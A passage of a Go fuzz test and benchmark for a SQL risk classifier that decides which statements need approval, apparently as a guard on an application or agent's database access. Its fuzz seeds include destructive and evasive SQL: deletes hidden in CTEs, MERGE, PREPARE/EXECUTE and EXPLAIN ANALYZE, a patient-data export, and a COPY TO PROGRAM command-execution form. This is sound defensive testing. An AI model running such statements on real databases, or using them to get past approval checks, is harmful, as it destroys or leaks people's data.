		"WITH c AS (SELECT * FROM t) DELETE FROM t USING c WHERE t.id = c.id",
		"MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE",
		"DELETE FROM t WHERE EXISTS (SELECT 1 FROM u JOIN v AS t ON true WHERE t.id = 1)",
		"SELECT string_agg(a, ',') FROM patients LIMIT 1", "PREPARE p AS DELETE FROM t; EXECUTE p",
		"EXPLAIN ANALYZE DELETE FROM t", "COPY (SELECT * FROM t LIMIT 5) TO PROGRAM 'x'",
	} {
		f.Add(s)
	}
	g := approvalGrant(f)
	f.Fuzz(func(t *testing.T, sql string) {
		stmts, tree, err := classifyTree(sql)
		if err != nil {
			return
		}
		_, _ = g.NeedsApproval(Actions(nil, stmts))
		for i, st := range stmts {
			for _, k := range append(slices.Clone(st.Risks), innerRisks(st)...) {
				if !slices.Contains(policy.Risks, k) || k == policy.RiskBulkExport || k == policy.RiskTableWrite {
					t.Fatalf("%q: risk %q", st.Text, k)
				}
			}
			if st.Rows < 0 {
				t.Fatalf("%q: rows %d", st.Text, st.Rows)
			}
			n := tree.GetStmts()[i].GetStmt()
			var where bool
			switch st.Kind {
			case "delete_stmt":
				where = n.GetDeleteStmt().GetWhereClause() != nil
			case "update_stmt":
				where = n.GetUpdateStmt().GetWhereClause() != nil
			default:
				continue
			}
			if !where && !slices.Contains(st.Risks, policy.RiskUnboundedWrite) {
				t.Fatalf("%q: no WHERE, yet no unbounded-write: %v", st.Text, st.Risks)
			}
			if len(st.Writes) == 0 {
				t.Fatalf("%q: writes nothing", st.Text)
			}
		}
	})
}

func innerRisks(st Statement) []policy.Risk {
	if st.Inner == nil {
		return nil
	}
	return st.Inner.Risks
}

// benchQueries are typical statements of an application and an agent.
var benchQueries = []string{
	"SELECT id, name, dob FROM patients WHERE id = $1",
	"SELECT p.id, count(*) FROM patients p JOIN visits v ON v.patient_id = p.id WHERE v.at > now() - interval '1 day' GROUP BY p.id ORDER BY 2 DESC LIMIT 20",
	"UPDATE pgbench_accounts SET abalance = abalance + $1 WHERE aid = $2",
	"INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES ($1, $2, $3, $4, CURRENT_TIMESTAMP)",
	"DELETE FROM sessions WHERE expires < now()",
	"WITH d AS (DELETE FROM t WHERE id IN (SELECT id FROM u WHERE u.x = 1) RETURNING *) INSERT INTO audit.events SELECT * FROM d",
	"BEGIN",
}

// BenchmarkClassify parses and classifies each text (no cache).
func BenchmarkClassify(b *testing.B) {
	for b.Loop() {
		for _, q := range benchQueries {
			if _, err := Classify(q); err != nil {
				b.Fatal(err)
			}
		}
	}
}
